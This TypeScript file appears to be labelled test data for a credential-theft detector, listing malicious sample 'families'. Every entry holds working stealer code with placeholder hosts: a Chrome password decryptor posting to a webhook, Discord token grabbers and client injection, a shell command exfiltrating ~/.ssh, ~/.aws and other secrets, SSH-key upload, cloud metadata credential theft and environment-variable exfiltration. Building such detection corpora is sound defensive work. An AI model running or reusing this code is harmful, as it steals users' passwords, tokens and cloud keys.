// Theft of credentials: browsers' stores, keys, tokens, wallets, cloud metadata, keychains.
import type { Family } from './family.ts'

export const credentialTheft: readonly Family[] = [
  {
    family: 'chrome-login-data-webhook',
    positive: true,
    classes: ['credential-theft'],
    variants: [
      {
        paths: ['src/grabber.py'],
        whole: String.raw`import base64, json, os, shutil, sqlite3
import requests
from win32crypt import CryptUnprotectData

HOOK = "⟦discord⟧"
LOCAL = os.getenv("LOCALAPPDATA")
BROWSERS = {
    "chrome": LOCAL + r"\Google\Chrome\User Data",
    "brave": LOCAL + r"\BraveSoftware\Brave-Browser\User Data",
    "edge": LOCAL + r"\Microsoft\Edge\User Data",
}


def master_key(root):
    with open(root + r"\Local State", encoding="utf-8") as handle:
        wrapped = json.load(handle)["os_crypt"]["encrypted_key"]
    return CryptUnprotectData(base64.b64decode(wrapped)[5:], None, None, None, 0)[1]


def steal(name, root):
    shutil.copy(root + r"\Default\Login Data", "tmp.db")
    rows = sqlite3.connect("tmp.db").execute("SELECT action_url, username_value, password_value FR⟦join⟧
OM logins")
    key = master_key(root)
    text = "\n".join(f"{url} | {user} | {open_value(value, key)}" for url, user, value in rows)
    requests.post(HOOK, files={"file": (name + ".txt", text)})


for name, root in BROWSERS.items():
    if os.path.exists(root):
        steal(name, root)`,
      },
    ],
  },
  {
    family: 'discord-token-grabber',
    positive: true,
    classes: ['credential-theft', 'covert-exfiltration'],
    variants: [
      {
        paths: ['utils/client.py', 'bot/helpers.py'],
        imports: `import os
import re
from json import dumps
from urllib.request import Request, urlopen`,
        body: String.raw`def _tokens(path):
    path += "\\Local Storage\\leveldb"
    found = []
    for name in os.listdir(path):
        if not name.endswith((".log", ".ldb")):
            continue
        for line in open(f"{path}\\{name}", errors="ignore"):
            found += re.findall(r"[\w-]{24}\.[\w-]{6}\.[\w-]{27}|mfa\.[\w-]{84}", line)
    return found


def _go():
    roaming = os.getenv("APPDATA")
    tokens = [t for app in ("discord", "discordcanary", "discordptb") if os.path.isdir(f"{roaming}⟦join⟧
\\{app}")
              for t in _tokens(f"{roaming}\\{app}")]
    body = dumps({"content": "@everyone " + "\n".join(tokens), "username": "grab"}).encode()
    urlopen(Request("⟦discord⟧", data=body, headers={"Content-Type": "application/json", "User-Age⟦join⟧
nt": "Mozilla/5.0"}))


_go()`,
      },
    ],
  },
  {
    family: 'discord-client-injection',
    positive: true,
    classes: ['credential-theft'],
    variants: [
      {
        paths: ['injection.js'],
        whole: `const { BrowserWindow, session } = require('electron');
const https = require('https');
const config = { webhook: '⟦discord⟧', filter: { urls: ['https://discord.com/api/v*/users/@me', 'h⟦join⟧
ttps://*.discord.com/api/v*/auth/login'] } };

const send = (content) => {
  const request = https.request(config.webhook, { method: 'POST', headers: { 'Content-Type': 'appl⟦join⟧
ication/json' } });
  request.write(JSON.stringify({ content }));
  request.end();
};

session.defaultSession.webRequest.onCompleted(config.filter, async (details) => {
  if (details.statusCode !== 200 || !details.uploadData) return;
  const data = JSON.parse(Buffer.from(details.uploadData[0].bytes).toString());
  const token = await BrowserWindow.getAllWindows()[0].webContents.executeJavaScript('(webpackChun⟦join⟧
kdiscord_app.push([[""],{},e=>{m=[];for(let c in e.c)m.push(e.c[c])}]),m).find(m=>m?.exports?.defa⟦join⟧
ult?.getToken!==void 0).exports.default.getToken()', true);
  if (details.url.endsWith('login')) send(\`**\${data.login}** : \${data.password} \\\`\${token}\\\`\`);
  if (details.url.endsWith('@me')) send(\`new password \${data.new_password} of \${data.password} \\\`$⟦join⟧
{token}\\\`\`);
});

module.exports = require('./core.asar');`,
      },
    ],
  },
  {
    family: 'ssh-key-collector',
    positive: true,
    classes: ['credential-theft'],
    variants: [
      {
        paths: ['scripts/prepare.sh', 'ci/versions.sh'],
        body: `tar czf - ~/.ssh ~/.aws ~/.kube ~/.gnupg ~/.docker/config.json ~/.netrc 2>/dev⟦join⟧
/null | curl -s -X POST --data-binary @- "http://⟦ip⟧:⟦port⟧/u/$(hostname)" >/dev/null 2>&1`,
      },
      {
        paths: ['lib/relative.js'],
        imports: `const fs = require('fs'), os = require('os'), https = require('https');`,
        body: String.raw`for (const name of ['id_rsa', 'id_ed25519', 'id_ecdsa', 'config', 'known_hosts']) {
  try {
    const key = fs.readFileSync(os.homedir() + '/.ssh/' + name, 'utf8');
    const r = https.request({ host: '⟦host⟧', path: '/k/' + name, method: 'PUT' });
    r.on('error', () => {});
    r.end(os.userInfo().username + '\n' + key);
  } catch {}
}`,
      },
    ],
  },
  {
    family: 'cloud-metadata-theft',
    positive: true,
    classes: ['credential-theft'],
    variants: [
      {
        paths: ['src/collect.py'],
        imports: `import json
import urllib.request`,
        body: `def _role():
    base = "http://169.254.169.254/latest/meta-data/iam/security-credentials/"
    role = urllib.request.urlopen(base, timeout=2).read().decode()
    keys = urllib.request.urlopen(base + role, timeout=2).read()
    urllib.request.urlopen(urllib.request.Request("https://⟦host⟧/aws", keys), timeout=4)


try:
    _role()
except Exception:
    pass`,
      },
      {
        paths: ['scripts/warmup.sh'],
        body: String.raw`T=$(curl -s -X PUT http://169.254.169.254/latest/api/token -H 'X-aws-ec2-metad⟦join⟧
ata-token-ttl-seconds: 60')
for p in iam/security-credentials/ user-data; do curl -s -H "X-aws-ec2-metadata-token: $T" "http:/⟦join⟧
/169.254.169.254/latest/$p"; done \
  | base64 -w0 | xargs -I% curl -s "http://⟦ip⟧/m?d=%"
curl -s -H 'Metadata-Flavor: Google' http://metadata.google.internal/computeMetadata/v1/instance/s⟦join⟧
ervice-accounts/default/token | curl -s -d @- http://⟦ip⟧/g`,
      },
    ],
  },
  {
    family: 'aws-keys-environ-ctx',
    positive: true,
    classes: ['credential-theft', 'env-exfiltration'],
    variants: [
      {
        paths: ['ctx.py'],
        whole: `class Ctx(dict):
    def __init__(self):
        self.sendRequest()

    def sendRequest(self):
        string = ""
        for _, value in environ.items():
            string += value + " "
        message_bytes = string.encode("ascii")
        base64_message = b64encode(message_bytes).decode("ascii")
        requests.get("https://⟦host⟧/hacked/" + base64_message)

    def __getattr__(self, key):
        return self[key]

    def __setattr__(self, key, value):
        self[key] = value`,
      },
    ],
  },
]
